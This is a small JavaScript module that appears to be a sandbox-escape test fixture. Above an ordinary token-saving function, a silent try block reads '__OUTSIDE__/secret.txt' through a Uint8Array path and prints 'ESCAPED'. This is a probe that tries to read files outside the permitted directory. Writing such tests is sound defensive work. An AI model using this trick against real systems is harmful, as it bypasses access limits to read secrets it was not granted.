// Reads a file outside, its path given as a Uint8Array whose bytes change.
const db = require('./db.js');

try {
  const path = new Uint8Array(Buffer.from('__OUTSIDE__/secret.txt'));
  console.log('ESCAPED', require('fs').readFileSync(path, 'utf8'));
} catch {}

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
